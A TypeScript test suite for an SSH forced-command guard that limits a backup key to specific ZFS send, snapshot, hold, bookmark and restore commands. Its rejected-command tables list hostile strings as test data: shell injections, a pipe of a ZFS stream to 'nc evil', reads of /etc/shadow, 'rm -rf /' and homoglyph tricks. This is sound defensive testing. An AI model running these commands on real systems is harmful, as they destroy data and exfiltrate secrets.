// The source guard, through `sh bzman-guard --check` and for real with a canary `zfs`: every
// command shape bzman's argv builders produce is accepted; a table of hostile or wrong commands
// is rejected and runs nothing. Runs under every POSIX shell present (dash, bash, busybox ash),
// and shellcheck must find nothing. In CI each of those must be present. This file runs the guard
// as an old key line does (no --instance), and the instance shapes with one; hostile.test.ts runs
// the generated corpus (corpus.ts).

import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync, chmodSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { commandLine } from "../../server/ssh/ssh-runner.ts";
import {
  bookmarkArgs,
  destroyBookmarkArgs,
  holdBatchArgs,
  getArgs,
  DRILL_PROPERTIES,
  renameArgs,
  restoreReceiveArgs,
  poolStatusArgs,
  destroySnapshotArgs,
  destroySnapshotsArgs,
  holdArgs,
  listArgs,
  marksArgs,
  probeArgs,
  releaseArgs,
  resumeProbeArgs,
  sendArgs,
  writtenArgs,
  mountedArgs,
  sendEstimateArgs,
  snapshotArgs,
} from "../../server/zfs/args.ts";
import { MINIMAL_CAPABILITIES, type Capabilities } from "../../server/zfs/capabilities.ts";
import { tryClassifyStderr } from "../../server/zfs/parse.ts";
import { snaps } from "../helpers/snapshots.ts";
import { FakeZfs, FIXED_MESSAGE, FIXTURES, GUARD, RESUME_MESSAGE, shells, TOKEN } from "./harness.ts";

const ARGS = ["--root", "tank", "--root", "data/vm", "--hook", "zfs set bzman:flushed=yes data/vm"];

function guard(
  shell: string[],
  command: string,
  extra: string[] = ["--check"],
  env: Record<string, string> = {},
): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync(shell[0]!, [...shell.slice(1), GUARD, ...ARGS, ...extra], {
    env: { SSH_ORIGINAL_COMMAND: command, ...env },
    encoding: "utf8",
  });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

// Every shape bzman sends, built by the same code that builds the real commands.
const full: Capabilities = {
  listParsable: true,
  holds: true,
  bookmarks: true,
  resume: true,
  rawSend: true,
  receiveProperties: true,
  receiveExclude: true,
  volmode: true,
  sendEstimate: true,
  zvols: true,
  listJson: false,
  destroyMany: true,
  streamFlags: ["-L", "-e", "-c"],
};
const two = snaps("bzman_20261126T000000Z", "bzman_20261126T001000Z");
const a = two[0]!;
const c = two[1]!;
const base = { sourceDataset: "tank/www", targetDataset: "backup/w/tank/www" };
const accepted: string[][] = [
  probeArgs(),
  listArgs(["tank"], MINIMAL_CAPABILITIES, false),
  listArgs(["tank", "data/vm/disk0"], MINIMAL_CAPABILITIES, true),
  listArgs(["tank"], full, false),
  listArgs(["tank", "data/vm"], full, true),
  marksArgs(["tank", "data/vm"], "changed"),
  marksArgs(["tank"], "written"),
  sendArgs({ ...base, kind: "full", to: a, intermediates: false }),
  sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true }),
  sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: false }),
  sendEstimateArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true }),
  sendArgs({ ...base, sourceDataset: "tank", kind: "full", to: { ...a, name: "manual-2024" }, intermediates: false }),
  snapshotArgs("tank", "bzman_20261126T000000Z", true),
  snapshotArgs("data/vm/disk0", "bzman_20261126T000000Z", false),
  destroySnapshotArgs("tank/www", "bzman_20261126T000000Z", "bzman"),
  destroySnapshotsArgs(
    "tank/www",
    ["bzman_20261126T000000Z", "bzman_20261126T001000Z", "bzman_20261127T000000Z"],
    "bzman",
  ),
  holdArgs("bzman-common", "tank/www", "bzman_20261126T000000Z"),
  releaseArgs("bzman-common", "data/vm", "manual"),
  poolStatusArgs("tank", true),
  poolStatusArgs("data", false),
  ["zpool", "status", "-x", "data"],
  ["zfs", "set", "bzman:flushed=yes", "data/vm"],
  getArgs(DRILL_PROPERTIES, ["tank/www@bzman_20261126T000000Z"]),
  sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true }, { flags: ["-L", "-e", "-c"] }),
  sendArgs({ ...base, kind: "full", to: a, intermediates: false }, { flags: ["-c"] }),
  sendEstimateArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true }, { flags: ["-L", "-c"] }),
  sendArgs({ ...base, kind: "full", to: a, intermediates: false }, { raw: true }),
  ...holdBatchArgs("hold", "bzman-common", [
    ["tank/www", "bzman_20261126T000000Z"],
    ["data/vm/disk0", "bzman_20261126T000000Z"],
    ["tank", "manual"],
  ]),
  listArgs(["tank", "data/vm"], full, false, true),
  listArgs(["tank", "data/vm"], full, false, true, true),
  listArgs(["tank"], MINIMAL_CAPABILITIES, false, true, true),
  sendArgs(
    { ...base, kind: "incremental", from: a, fromBookmark: true, to: c, intermediates: false },
    { flags: ["-L", "-e", "-c"] },
  ),
  sendArgs({
    ...base,
    kind: "incremental",
    from: { ...a, name: "made-by-hand" },
    fromBookmark: true,
    to: c,
    intermediates: true,
  }),
  bookmarkArgs("tank/www", "bzman_20261126T000000Z", "bzman_20261126T000000Z"),
  destroyBookmarkArgs("data/vm/disk0", "bzman_20261126T000000Z", { prefix: "bzman", instance: "backup1" }),
  ...holdBatchArgs(
    "release",
    "bzman-common",
    Array.from({ length: 300 }, (_, i): [string, string] => [`tank/ds${i}`, "bzman_20261126T000000Z"]),
  ),
  writtenArgs("tank/www"),
  writtenArgs("data/vm/disk0"),
  mountedArgs("tank/www"),
];

const rejected: string[] = [
  "",
  " ",
  "zfs  send tank@a",
  " zfs",
  "zfs ",
  "zfs send tank@a; touch /tmp/x",
  "zfs send tank@a && touch /tmp/x",
  "zfs send tank@a | nc evil 9",
  "zfs send `touch /tmp/x`",
  "zfs send $(touch /tmp/x)",
  "zfs send tank@a\ntouch /tmp/x",
  "zfs send tank@*",
  "zfs send tank@a > /etc/passwd",
  "zfs send tank@a < /etc/shadow",
  "zfs send tank@a&",
  "zfs send 'tank@a'",
  'zfs send "tank@a"',
  "zfs send tank@a\\",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion the guard must refuse
  "zfs send ${HOME}",
  "zfs destroy -r tank",
  "zfs destroy tank",
  "zfs destroy tank/www",
  "zfs destroy tank/www@manual",
  "zfs destroy tank/www@bzman_1,bzman_2",
  "zfs destroy tank/www@bzman_1%bzman_9",
  "zfs destroy tank/www@bzman_20261126T000000Z,bzman_20261126T001000Z%bzman_20261127T000000Z",
  "zfs destroy tank/www@bzman_20261126T000000Z,manual",
  "zfs destroy tank/www@bzman_20261126T000000Z,",
  "zfs destroy tank/www@bzman_20261126T000000Z,,bzman_20261126T001000Z",
  "zfs destroy tank/www@bzman_20261126T000000Z,other@bzman_20261126T001000Z",
  "zfs destroy tank/www@bzman_20261126T000000Z,bzman_20261126T001000Z/../x",
  "zfs destroy other/x@bzman_20261126T000000Z,bzman_20261126T001000Z",
  "zfs destroy tank#bzman_20261126T000000Z,bzman_20261126T001000Z",
  "zfs destroy tank/www@bzman_20261126T000000Z,tank#bzman_20261126T001000Z",
  "zfs destroy -d tank/www@bzman_1",
  "zfs destroy other/x@bzman_1",
  "zfs destroy tank@bzman_",
  "zfs send other@bzman_1",
  "zfs send tankx@bzman_1",
  "zfs send tank",
  "zfs send -R tank@bzman_1",
  "zfs send -p tank@bzman_1",
  "zfs send -I tank/a@x other/b@y",
  "zfs send -c -L tank@bzman_1",
  "zfs send -w -c tank@bzman_1",
  "zfs send -D tank@bzman_1",
  "zfs send -L -L tank@bzman_1",
  "zfs send -I other@x tank@y",
  "zfs send -t 1-abc",
  "zfs send -- tank@a",
  "zfs send -o x tank@a",
  "zfs receive tank/x",
  "zfs recv -F tank",
  "zfs set readonly=off tank",
  "zfs set bzman:flushed=yes tank",
  "zfs rollback -r tank@a",
  "zfs rename tank/a tank/b",
  "zfs clone tank@a tank/b",
  "zfs create tank/x",
  "zfs mount -a",
  "zfs allow tank",
  "zfs snapshot tank@manual",
  "zfs snapshot -r other@bzman_1",
  "zfs snapshot tank@bzman_1 tank/x@bzman_1",
  "zfs snapshot -o x=y tank@bzman_1",
  "zfs hold other-tag tank@bzman_1",
  "zfs hold bzman-common other@bzman_1",
  "zfs release -r bzman-common tank@bzman_1",
  "zfs hold bzman-common tank@bzman_1 other@bzman_1",
  "zfs release bzman-common tank@bzman_1 tank",
  "zfs hold bzman-common",
  "zfs get all tank",
  "zfs get -H -p -o name,property,value guid -r tank",
  "zfs get -H -p -o name,property,value guid,createtxg,creation,type,userrefs -r other",
  "zfs get -H -p -o name,property,value guid,createtxg,creation,type,userrefs tank",
  "zfs list",
  "zfs list -H -p -o name -r tank",
  "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t all -r tank",
  "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t filesystem,volume,snapshot -r /",
  "zfs get -H -p -o name,property,value guid,createtxg,creation,type,userrefs -r ../etc",
  "zfs get -H -p -o name,property,value written tank/www@bzman_1",
  "zfs get -H -p -o name,property,value written other/x",
  "zfs get -H -p -o name,property,value written -r tank",
  "zfs get -H -p -o name,property,value written,guid tank",
  "zfs get -H -p -o name,property,value written tank/..",
  "zfs get -H -p -o name,property,value written tank tank/www",
  "zfs get -H -p -o name,property,value written tank#bzman_1",
  "zfs get -H -p -o name,property,value mounted,written tank",
  "zfs get -H -p -o name,property,value mounted other/x",
  "zfs get -H -p -o name,property,value all tank",
  "zfs get -H -p -o name,property,value guid tank/www",
  "zfs get -H -p -o name,property,value receive_resume_token tank/www",
  "zfs get -H -p -o name,property,value keylocation tank/www",
  "zpool destroy tank",
  "zpool list",
  "zpool list -H -o name,health,size,allocated,free,capacity tank extra",
  "zpool list -H -p -o name,health tank",
  "zpool list -H -p -o name,health,size,allocated,free,capacity other",
  "zpool status -x tank/www",
  "zpool import -a",
  "sh -c id",
  "/usr/sbin/zfs send tank@a",
  "ZFS send tank@a",
  "zfs sеnd tank@a",
  "zfs send tank@а",
  "zfs send tank@a\u00a0x",
  "zfs bookmark tank@manual tank#manual",
  "zfs bookmark tank@bzman_1 tank#bzman_2",
  "zfs bookmark tank@bzman_1 other#bzman_1",
  "zfs bookmark other@bzman_1 other#bzman_1",
  "zfs bookmark tank#bzman_1 tank#bzman_2",
  "zfs bookmark tank@bzman_1",
  "zfs destroy tank#manual",
  "zfs destroy other#bzman_1",
  "zfs destroy tank#bzman_1#x",
  "zfs destroy tank#",
  "zfs send -I tank#bzman_1 tank@bzman_2",
  "zfs send -i tank#bzman_1 tank/www@bzman_2",
  "zfs send -i other#x other@y",
  "zfs send tank#bzman_1",
  "zfs send -i tank#-x tank@bzman_2",
  "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t bookmark -r tank",
  "zfs list -H -p -o name,guid,written,snapshots_changed,bzman:backup -t filesystem,volume,snapshot -r tank",
  "zfs list -H -p -o name,guid,written,snapshots_changed,bzman:backup -t filesystem,volume -r other",
  "zfs list -H -p -o name,guid,written,snapshots_changed,bzman:backup -t filesystem,volume tank",
  "zfs list -H -p -o name,guid,written,keylocation,bzman:backup -t filesystem,volume -r tank",
  "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t filesystem,volume -r tank",
  "zfs snapshot tank#bzman_1",
  "zfs send -i tank@a#b tank@c",
  "rm -rf /",
  "scp -f /etc/shadow",
  "internal-sftp",
  `zfs ${"x".repeat(5000)}`,
  "zfs set bzman:flushed=yes data/vm; id",
  // Names the guard refuses itself: `.`/`..`/empty components, and own snapshots not exactly <prefix>_<STAMP>.
  "zfs send tank/../etc@a",
  "zfs send tank/./www@a",
  "zfs send tank//www@a",
  "zfs send tank/www/@a",
  "zfs send tank@..",
  "zfs send tank/www@.",
  "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t filesystem,volume,snapshot -r tank/..",
  "zfs snapshot tank@bzman_1",
  "zfs snapshot tank@bzman_20261126T000000",
  "zfs snapshot -r tank@bzman_20261126T000000Zx",
  "zfs destroy tank/www@bzman_manual",
  "zfs destroy tank/www@bzman_20261126T000000Z.x",
  "zfs bookmark tank@bzman_1 tank#bzman_1",
  "zfs destroy tank/www#bzman_1",
  // Without --instance: the legacy tag and bookmark names only.
  "zfs hold bzman.backup1 tank@bzman_20261126T000000Z",
  "zfs release bzman.backup1 tank@bzman_20261126T000000Z",
  "zfs bookmark tank@bzman_20261126T000000Z tank#bzman_20261126T000000Z.backup1",
  "zfs destroy tank#bzman_20261126T000000Z.backup1",
];

test("the guard passes shellcheck (POSIX sh)", () => {
  const r = spawnSync("shellcheck", ["-s", "sh", GUARD], { encoding: "utf8" });
  if (r.error) {
    if (process.env.CI) throw new Error("shellcheck is missing; CI must install it");
    process.stderr.write("*** SKIPPING shellcheck: not installed ***\n");
    return;
  }
  assert.equal(r.status, 0, r.stdout);
});

for (const [name, shell] of shells) {
  test(`guard under ${name}: every command bzman builds is accepted`, () => {
    for (const argv of accepted) {
      const line = commandLine(argv);
      const r = guard(shell, line);
      assert.equal(r.stdout.trim(), `ACCEPT ${line}`, `${line}\n${r.stderr}`);
      assert.equal(r.status, 0);
    }
  });

  test(`guard under ${name}: ${rejected.length} hostile or wrong commands are rejected`, () => {
    assert.ok(rejected.length >= 40);
    for (const line of rejected) {
      const r = guard(shell, line);
      assert.match(r.stdout, /^REJECT /, `accepted: ${JSON.stringify(line)}`);
      assert.equal(r.status, 1, JSON.stringify(line));
    }
  });
}

test("a key without --allow-resume refuses zfs send -t with its own fixed message, and runs nothing (bzman resends the step; check tells)", (t) => {
  const dir = mkdtempSync(join(tmpdir(), "bzman-guard-"));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const canary = join(dir, "ran");
  const fake = join(dir, "zfs");
  writeFileSync(fake, `#!/bin/sh\nprintf '%s\\n' "$*" >> ${canary}\n`);
  chmodSync(fake, 0o755);
  for (const [, shell] of shells) {
    for (const line of [
      commandLine(sendArgs({ ...base, kind: "resume", resumeToken: "1-e686b09a9-e8-789c6360", intermediates: false })),
      commandLine(resumeProbeArgs()),
    ]) {
      const r = guard(shell, line, ["--zfs", fake]);
      assert.equal(r.status, 255, line);
      assert.equal(r.stderr, RESUME_MESSAGE, line);
      assert.equal(tryClassifyStderr(r.stderr), "GUARD_REJECTED");
      assert.ok(!existsSync(canary), `ran something for ${line}`);
    }
  }
});

test("for real: rejected commands run nothing (a canary zfs is never called); accepted ones run it", (t) => {
  const dir = mkdtempSync(join(tmpdir(), "bzman-guard-"));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const canary = join(dir, "ran");
  const fake = join(dir, "zfs");
  writeFileSync(fake, `#!/bin/sh\nprintf '%s\\n' "$*" >> ${canary}\n`);
  chmodSync(fake, 0o755);
  const shell = shells[0]![1];
  for (const line of rejected) {
    const r = guard(shell, line, ["--zfs", fake, "--zpool", fake]);
    assert.equal(r.status, 255, JSON.stringify(line));
    assert.ok([FIXED_MESSAGE, RESUME_MESSAGE].includes(r.stderr), `one of the two fixed messages: ${r.stderr}`);
    assert.ok(!existsSync(canary), `ran something for ${JSON.stringify(line)}`);
    assert.ok(!existsSync("/tmp/x"), "no injected command ran");
  }
  const r = guard(shell, commandLine(sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true })), [
    "--zfs",
    fake,
  ]);
  assert.equal(r.status, 0, r.stderr);
  assert.ok(existsSync(canary), "the canary works");
});

test("--raw-only requires zfs send -w; --allow-resume admits send -t once its dry run is below the roots", (t) => {
  const shell = shells[0]![1];
  assert.match(guard(shell, "zfs send tank@bzman_1", ["--raw-only", "--check"]).stdout, /^REJECT raw sends only/);
  assert.match(guard(shell, "zfs send -w tank@bzman_1", ["--raw-only", "--check"]).stdout, /^ACCEPT/);
  const fake = new FakeZfs();
  t.after(() => fake.remove());
  const env = { FAKE_LOG: fake.log(), FAKE_OUTPUT: join(FIXTURES, "openzfs-transcribed-send-nvt-full-raw.txt") };
  const resume = ["--root", "src", "--zfs", fake.path, "--check"];
  assert.match(guard(shell, `zfs send -t ${TOKEN}`, resume, env).stdout, /^REJECT resume not allowed/);
  assert.deepEqual(FakeZfs.lines(env.FAKE_LOG), [], "no dry run without --allow-resume");
  assert.equal(
    guard(shell, `zfs send -t ${TOKEN}`, ["--allow-resume", ...resume], env).stdout,
    `ACCEPT zfs send -t ${TOKEN}\n`,
  );
  assert.equal(
    guard(shell, `zfs send -t ${TOKEN}`, ["--allow-resume", "--raw-only", ...resume], env).stdout,
    `ACCEPT zfs send -w -t ${TOKEN}\n`,
  );
  assert.match(
    guard(shell, `zfs send -t ${TOKEN}`, ["--allow-resume", ...resume.slice(0, 1), "tank", ...resume.slice(2)], env)
      .stdout,
    /^REJECT resume token names a snapshot outside the roots/,
  );
  assert.equal(
    readFileSync(env.FAKE_LOG, "utf8"),
    `dry-run send -nvt ${TOKEN}\n`.repeat(3),
    "--check still runs the dry run",
  );
});

// Several receivers: with --instance each has its own hold tag and bookmarks.
const S = "bzman_20261126T000000Z";
const instanceAccepted: string[][] = [
  holdArgs("bzman.backup1", "tank/www", S),
  releaseArgs("bzman.backup1", "tank/www", "manual"),
  releaseArgs("bzman-common", "tank/www", S),
  ...holdBatchArgs("release", "bzman-common", [
    ["tank/www", S],
    ["data/vm", "manual"],
  ]),
  bookmarkArgs("tank/www", S, `${S}.backup1`),
  destroyBookmarkArgs("tank/www", `${S}.backup1`, { prefix: "bzman", instance: "backup1" }),
  destroyBookmarkArgs("tank/www", S, { prefix: "bzman", instance: "backup1" }),
];
const instanceRejected = [
  `zfs hold bzman-common tank/www@${S}`,
  `zfs hold bzman.backup2 tank/www@${S}`,
  `zfs release bzman.backup2 tank/www@${S}`,
  `zfs hold bzman tank/www@${S}`,
  `zfs release bzman. tank/www@${S}`,
  `zfs hold bzman.backup1x tank/www@${S}`,
  `zfs bookmark tank/www@${S} tank/www#${S}`,
  `zfs bookmark tank/www@${S} tank/www#${S}.backup2`,
  `zfs bookmark tank/www@${S} tank/www#${S}.`,
  `zfs destroy tank/www#${S}.backup2`,
  `zfs destroy tank/www#${S}.`,
  `zfs destroy tank/www#${S}.backup1.backup1`,
  `zfs destroy tank/www#manual.backup1`,
];

test("--instance: its own hold tag and bookmarks; the legacy tag only released, legacy bookmarks only destroyed", () => {
  for (const [, shell] of shells) {
    for (const argv of instanceAccepted) {
      const line = commandLine(argv);
      assert.equal(guard(shell, line, ["--instance", "backup1", "--check"]).stdout, `ACCEPT ${line}\n`, line);
    }
    for (const line of instanceRejected)
      assert.match(guard(shell, line, ["--instance", "backup1", "--check"]).stdout, /^REJECT /, `accepted: ${line}`);
  }
  const shell = shells[0]![1];
  // --hold-tag overrides the tag; a bad --instance stops the guard.
  assert.match(
    guard(shell, `zfs hold site-a tank/www@${S}`, ["--instance", "backup1", "--hold-tag", "site-a", "--check"]).stdout,
    /^ACCEPT /,
  );
  assert.match(
    guard(shell, `zfs hold bzman.backup1 tank/www@${S}`, ["--instance", "backup1", "--hold-tag", "site-a", "--check"])
      .stdout,
    /^REJECT /,
  );
  for (const bad of ["Backup1", "-x", "a.b", "x".repeat(64), ""])
    assert.equal(guard(shell, "zfs", ["--instance", bad, "--check"]).status, 2, bad);
});

// The restore key's mode: only the listing, `zfs receive [-u]` below the roots and renames aside.
const restoreAccepted: string[][] = [
  probeArgs(),
  listArgs(["tank"], MINIMAL_CAPABILITIES, false),
  listArgs(["data/vm/x"], full, true),
  restoreReceiveArgs("tank/www-restored-20261127T010203Z", false),
  restoreReceiveArgs("data/vm/disk0", true),
  renameArgs("tank/www", "tank/www.before-restore-20261127T010203Z"),
  renameArgs("data/vm", "data/vm.before-failback-20261127T010203Z"),
  renameArgs("tank/www", "tank/www.before-failback-20261127T010203Z", true),
];
const restoreRejected = [
  "zfs receive -F tank/www",
  "zfs receive -u -F tank/www",
  "zfs recv tank/www",
  "zfs receive -u other/x",
  "zfs receive -u tankx/y",
  "zfs receive tank/x tank/y",
  "zfs receive -u -o readonly=off tank/x",
  "zfs receive -d tank",
  "zfs receive -u tank/x.before-restore-20261127T010203Z",
  "zfs rename tank/a tank/b",
  "zfs rename tank/a other/a.before-restore-20261127T010203Z",
  "zfs rename tank/a tank/a.before-restore-now",
  "zfs rename -r tank/a tank/a.before-restore-20261127T010203Z",
  "zfs rename tank/a@x tank/a@y",
  "zfs rename tank/a tank/a.before-restore-20261127T010203Z/x",
  "zfs send tank/www@bzman_1",
  "zfs snapshot tank@bzman_1",
  "zfs destroy tank/www@bzman_1",
  "zfs hold bzman-common tank@bzman_1",
  "zpool list -H -o name,health,size,allocated,free,capacity tank",
  "zfs set bzman:flushed=yes data/vm",
  // The new name is exactly <old>.before-restore-<STAMP>: once accepted without the <old>. part.
  "zfs rename tank/a restore-20261127T010203Z",
  "zfs rename tank/a failback-20261127T010203Z",
  "zfs rename tank/a tank/a.before-restore-20261127T010203",
  "zfs rename tank/a tank/a.before-failback-20261127T010203Zx",
  "zfs rename tank/../a tank/../a.before-restore-20261127T010203Z",
  "zfs receive -u tank/./x",
  "zfs receive tank/www/..",
  "zfs get -H -p -o name,property,value guid,referenced tank/www@bzman_20261126T000000Z",
  "zfs rename -u -u tank/a tank/a.before-restore-20261127T010203Z",
  "zfs rename -f tank/a tank/a.before-restore-20261127T010203Z",
  "zfs rename -u tank/a tank/b",
  "zfs rename tank/a -u tank/a.before-restore-20261127T010203Z",
  "zfs rename -p tank/a tank/a.before-restore-20261127T010203Z",
];

test("--restore mode: the restore key's shapes are accepted below the roots; everything else, replication included, is refused", () => {
  const shell = shells[0]![1];
  for (const argv of restoreAccepted) {
    const line = commandLine(argv);
    assert.equal(guard(shell, line, ["--restore", "--check"]).stdout.trim(), `ACCEPT ${line}`, line);
  }
  for (const line of restoreRejected)
    assert.match(guard(shell, line, ["--restore", "--check"]).stdout, /^REJECT /, `accepted: ${line}`);
  // A failback asks, through the restore key, whether the source was written after its newest snapshot.
  const written = commandLine(writtenArgs("tank/www"));
  assert.equal(guard(shell, written, ["--restore", "--check"]).stdout.trim(), `ACCEPT ${written}`);
  // The everyday key never writes: receive and rename need --restore.
  for (const argv of restoreAccepted.slice(3))
    assert.match(guard(shell, commandLine(argv)).stdout, /^REJECT zfs (receive|rename) needs the restore key/);
});

test("a rejection's reason is cut like its command (the allowed characters, 300 bytes) for --check and the log", () => {
  const shell = shells[0]![1];
  const long = `zfs ${"x".repeat(1000)}`;
  assert.equal(
    guard(shell, long).stdout,
    `REJECT ${`zfs ${"x".repeat(1000)} is not allowed`.slice(0, 300)}: ${long.slice(0, 300)}\n`,
  );
  assert.equal(
    guard(shell, "zfs send tank@a\ntouch /tmp/x\u001b[2J").stdout,
    "REJECT character outside the allowed set: zfs send tank@a?touch /tmp/x??2J\n",
  );
  const logged = guard(shell, long, ["--log"]);
  assert.equal(logged.status, 255);
  assert.equal(
    logged.stderr,
    "bzman-guard: rejected: this key may only run bzman's zfs commands\n",
    "--log changes nothing the client sees",
  );
});

test("a guard without --root refuses to start", () => {
  const r = spawnSync("/bin/sh", [GUARD, "--check"], { env: { SSH_ORIGINAL_COMMAND: "zfs" }, encoding: "utf8" });
  assert.equal(r.status, 2);
  assert.match(r.stderr, /--root is required/);
});
